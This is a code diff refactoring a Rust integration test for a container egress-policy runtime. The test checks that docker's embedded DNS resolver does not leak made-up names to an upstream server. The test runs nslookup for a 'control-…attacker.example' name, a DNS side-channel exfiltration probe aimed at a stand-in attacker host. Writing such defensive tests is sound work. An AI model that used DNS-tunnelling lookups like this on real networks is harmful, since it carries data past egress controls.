@@ -21,14 +21,13 @@
 //! cargo test --release -p moat-integration --test egress_dns -- --test-threads=1
 //! ```
 
-use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
-use std::process::{Command, Stdio};
-use std::sync::atomic::{AtomicBool, Ordering};
-use std::sync::{Arc, Mutex};
-use std::thread::JoinHandle;
+use std::net::{Ipv4Addr, SocketAddr};
+use std::path::Path;
 use std::time::Duration;
 
-const IMAGE: &str = "moat-busybox:latest";
+use moat_integration::docker::{docker, IMAGE};
+use moat_integration::network::Server;
+
 /// The policy the registered runtime reads (`--policy` in its runtimeArgs).
 const POLICY: &str = "/run/moat-egress-dns-test.toml";
 /// The test's docker network (outside 10.231/16, the egress tests' veths).
@@ -37,132 +36,12 @@ const GATEWAY: &str = "10.232.18.1";
 /// What the upstream answers (TEST-NET-1; never connected to).
 const ANSWER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 53);
 
-fn runtime() -> String {
+/// The docker runtime registered for this test (see the header).
+fn egress_dns_runtime() -> String {
     std::env::var("MOAT_EGRESS_DNS_RUNTIME")
         .ok()
         .filter(|s| !s.is_empty())
         .unwrap_or_else(|| "moat-test-egress-dns".to_string())
-}
-
-fn docker(args: &[&str]) -> (bool, String) {
-    match Command::new("docker")
-        .args(args)
-        .stdin(Stdio::null())
-        .output()
-    {
-        Ok(o) => (
-            o.status.success(),
-            format!(
-                "{}{}",
-                String::from_utf8_lossy(&o.stdout),
-                String::from_utf8_lossy(&o.stderr)
-            ),
-        ),
-        Err(e) => (false, format!("cannot run docker: {e}")),
-    }
-}
-
-/// The query name of a DNS message (uncompressed labels), lowercased.
-fn qname(msg: &[u8]) -> Option<String> {
-    let mut i = 12;
-    let mut labels = Vec::new();
-    loop {
-        let len = usize::from(*msg.get(i)?);
-        i += 1;
-        if len == 0 {
-            break;
-        }
-        if len & 0xc0 != 0 {
-            return None;
-        }
-        labels.push(String::from_utf8_lossy(msg.get(i..i + len)?).to_lowercase());
-        i += len;
-    }
-    Some(labels.join("."))
-}
-
-/// A reply to a one-question query: A/IN gets [`ANSWER`] (TTL 60),
-/// anything else an empty NOERROR.
-fn reply(q: &[u8]) -> Option<Vec<u8>> {
-    if q.len() < 12 || q[2] & 0x80 != 0 {
-        return None;
-    }
-    let mut i = 12;
-    while *q.get(i)? != 0 {
-        i += 1 + usize::from(q[i]);
-    }
-    let end = i + 5;
-    let typ = u16::from_be_bytes([*q.get(i + 1)?, *q.get(i + 2)?]);
-    let is_a = typ == 1;
-    let mut r = q.get(..2)?.to_vec();
-    r.extend_from_slice(&[
-        0x80 | (q[2] & 0x79),
-        0x80,
-        0,
-        1,
-        0,
-        u8::from(is_a),
-        0,
-        0,
-        0,
-        0,
-    ]);
-    r.extend_from_slice(q.get(12..end)?);
-    if is_a {
-        r.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
-        r.extend_from_slice(&ANSWER.octets());
-    }
-    Some(r)
-}
-
-/// The upstream: logs every name it is asked; stopped on drop.
-struct Upstream {
-    log: Arc<Mutex<Vec<String>>>,
-    stop: Arc<AtomicBool>,
-    handle: Option<JoinHandle<()>>,
-}
-
-impl Upstream {
-    fn start(addr: Ipv4Addr) -> Upstream {
-        let sock = UdpSocket::bind(SocketAddr::new(addr.into(), 53))
-            .unwrap_or_else(|e| panic!("bind {addr}:53: {e}"));
-        sock.set_read_timeout(Some(Duration::from_millis(20)))
-            .unwrap();
-        let log = Arc::new(Mutex::new(Vec::new()));
-        let stop = Arc::new(AtomicBool::new(false));
-        let (l, s) = (log.clone(), stop.clone());
-        let handle = std::thread::spawn(move || {
-            let mut buf = [0u8; 2048];
-            while !s.load(Ordering::SeqCst) {
-                if let Ok((n, peer)) = sock.recv_from(&mut buf) {
-                    if let Some(name) = qname(&buf[..n]) {
-                        l.lock().unwrap().push(name);
-                    }
-                    if let Some(r) = reply(&buf[..n]) {
-                        let _ = sock.send_to(&r, peer);
-                    }
-                }
-            }
-        });
-        Upstream {
-            log,
-            stop,
-            handle: Some(handle),
-        }
-    }
-
-    fn asked(&self, name: &str) -> bool {
-        self.log.lock().unwrap().iter().any(|n| n == name)
-    }
-}
-
-impl Drop for Upstream {
-    fn drop(&mut self) {
-        self.stop.store(true, Ordering::SeqCst);
-        if let Some(h) = self.handle.take() {
-            let _ = h.join();
-        }
-    }
 }
 
 /// A docker network of the test's; removed (with any container left on
@@ -171,8 +50,8 @@ struct Network(String);
 
 impl Drop for Network {
     fn drop(&mut self) {
-        let (_, ids) = docker(&["ps", "-aq", "--filter", &format!("network={}", self.0)]);
-        for id in ids.split_whitespace() {
+        let ids = docker(&["ps", "-aq", "--filter", &format!("network={}", self.0)]);
+        for id in ids.stdout.split_whitespace() {
             let _ = docker(&["rm", "-f", id]);
         }
         let _ = docker(&["network", "rm", &self.0]);
@@ -183,7 +62,7 @@ impl Drop for Network {
 fn lookup(runtime: &str, network: &str, upstream: Ipv4Addr, name: &str) -> String {
     let script = format!("timeout 10 nslookup {name} 2>&1; echo NS=$?");
     let upstream = upstream.to_string();
-    let (_, out) = docker(&[
+    docker(&[
         "run",
         "--rm",
         "--runtime",
@@ -196,8 +75,8 @@ fn lookup(runtime: &str, network: &str, upstream: Ipv4Addr, name: &str) -> Strin
         "sh",
         "-c",
         &script,
-    ]);
-    out
+    ])
+    .combined()
 }
 
 /// T18 (DNS side channel, docker): a made-up name looked up through the
@@ -206,11 +85,11 @@ fn lookup(runtime: &str, network: &str, upstream: Ipv4Addr, name: &str) -> Strin
 /// nothing of the test is left afterwards.
 #[test]
 fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
-    let rt = runtime();
+    let rt = egress_dns_runtime();
     let me = std::process::id();
-    let (ok, info) = docker(&["info", "--format", "{{json .Runtimes}}"]);
-    let registered = ok
-        && serde_json::from_str::<serde_json::Value>(&info)
+    let info = docker(&["info", "--format", "{{json .Runtimes}}"]);
+    let registered = info.ok()
+        && serde_json::from_str::<serde_json::Value>(&info.stdout)
             .ok()
             .and_then(|v| v.get(&rt)?.get("runtimeArgs")?.as_array().cloned())
             .is_some_and(|args| {
@@ -219,11 +98,12 @@ fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
             });
     assert!(
         registered,
-        "runtime {rt} is not registered with --policy {POLICY} (see this file's header): {info}"
+        "runtime {rt} is not registered with --policy {POLICY} (see this file's header): {}",
+        info.describe()
     );
     std::fs::write(POLICY, format!("[egress]\nallow = [\"{SUBNET}\"]\n")).unwrap();
     let net = Network(format!("moat-egdns-{me}"));
-    let (ok, out) = docker(&[
+    let created = docker(&[
         "network",
         "create",
         "--subnet",
@@ -232,20 +112,33 @@ fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
         GATEWAY,
         &net.0,
     ]);
-    assert!(ok, "docker network create: {out}");
-    let (ok, gw) = docker(&[
+    assert!(
+        created.ok(),
+        "docker network create: {}",
+        created.describe()
+    );
+    let inspect = docker(&[
         "network",
         "inspect",
         "--format",
         "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
         &net.0,
     ]);
-    assert!(ok, "docker network inspect: {gw}");
-    let gw: Ipv4Addr = gw
+    assert!(
+        inspect.ok(),
+        "docker network inspect: {}",
+        inspect.describe()
+    );
+    let gw: Ipv4Addr = inspect
+        .stdout
         .trim()
         .parse()
-        .unwrap_or_else(|_| panic!("no IPv4 gateway: {gw:?}"));
-    let upstream = Upstream::start(gw);
+        .unwrap_or_else(|_| panic!("no IPv4 gateway: {:?}", inspect.stdout));
+    let upstream = Server::dns(
+        Path::new("/proc/self/ns/net"),
+        SocketAddr::new(gw.into(), 53),
+        ANSWER,
+    );
 
     let control = format!("control-{me}.attacker.example");
     let out = lookup("runc", &net.0, gw, &control);
@@ -271,8 +164,8 @@ fn docker_embedded_resolver_does_not_carry_made_up_names_out() {
     drop(upstream);
     drop(net);
     let _ = std::fs::remove_file(POLICY);
-    let (_, left) = docker(&["ps", "-aq", "--filter", &format!("network=moat-egdns-{me}")]);
+    let left = docker(&["ps", "-aq", "--filter", &format!("network=moat-egdns-{me}")]).stdout;
     assert!(left.trim().is_empty(), "containers left: {left}");
-    let (ok, _) = docker(&["network", "inspect", &format!("moat-egdns-{me}")]);
-    assert!(!ok, "the test's docker network is still there");
+    let inspect = docker(&["network", "inspect", &format!("moat-egdns-{me}")]);
+    assert!(!inspect.ok(), "the test's docker network is still there");
 }
